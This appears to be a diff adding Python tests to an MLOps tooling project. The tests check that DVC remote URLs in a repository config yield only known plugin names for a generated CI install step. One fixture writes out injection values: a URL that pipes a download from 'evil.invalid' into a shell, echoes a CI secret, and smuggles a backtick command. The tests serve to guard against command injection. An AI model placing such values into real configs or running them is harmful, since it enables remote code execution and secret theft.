@@ -4,8 +4,14 @@ pip recorded it came from (PEP 610 direct_url.json), or as the manifest says."""
 from __future__ import annotations
 
 import json
+from pathlib import Path
 
-from mlops_gitops.render.toolsource import tool_source
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from mlops_gitops.errors import UsageError
+from mlops_gitops.locks import REMOTE_PLUGINS
+from mlops_gitops.render.toolsource import dvc_plugins, tool_source
 
 SHA = "0123456789abcdef0123456789abcdef01234567"
 
@@ -67,3 +73,42 @@ def test_the_manifest_wins() -> None:
     assert wheel.pip_requirement == "./wheels/mlops_gitops-1.2.3-py3-none-any.whl"
     spec = tool_source(f"mlops-gitops @ git+https://example.com/fork.git@{SHA}")
     assert spec.pip_requirement == f"mlops-gitops @ git+https://example.com/fork.git@{SHA}"
+
+
+# .dvc/config is the repository's, so a pull request can write it: only a known plugin's key may
+# reach the generated install step, whatever a remote's URL says.
+@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    urls=st.lists(
+        st.one_of(
+            st.sampled_from(
+                ["s3://b/p", "gs://b", "gdrive://id/x", "azure://c/p", "https://h/x", "/local/store"]
+            ),
+            st.text(
+                alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\r\n"),
+                max_size=40,
+            ),
+        ),
+        max_size=4,
+    )
+)
+def test_the_plugins_ci_installs_come_only_from_the_known_table(tmp_path: Path, urls: list[str]) -> None:
+    (tmp_path / ".dvc").mkdir(exist_ok=True)
+    config = "".join(f"['remote \"r{i}\"']\n    url = {url.replace('%', '')}\n" for i, url in enumerate(urls))
+    (tmp_path / ".dvc" / "config").write_text(config, encoding="utf-8")
+    try:
+        plugins = dvc_plugins(tmp_path)
+    except UsageError:
+        return  # a config DVC could not read either: one line, nothing rendered
+    assert set(plugins) <= set(REMOTE_PLUGINS)
+    assert list(plugins) == sorted(set(plugins))
+
+
+def test_a_hostile_remote_url_renders_only_its_scheme(tmp_path: Path) -> None:
+    (tmp_path / ".dvc").mkdir()
+    (tmp_path / ".dvc" / "config").write_text(
+        "['remote \"evil\"']\n    url = s3://b/$(curl evil.invalid|sh); echo ${{ secrets.X }}\n"
+        "['remote \"drive\"']\n    url = gdrive://x`id`\n",
+        encoding="utf-8",
+    )
+    assert dvc_plugins(tmp_path) == ("gdrive", "s3")
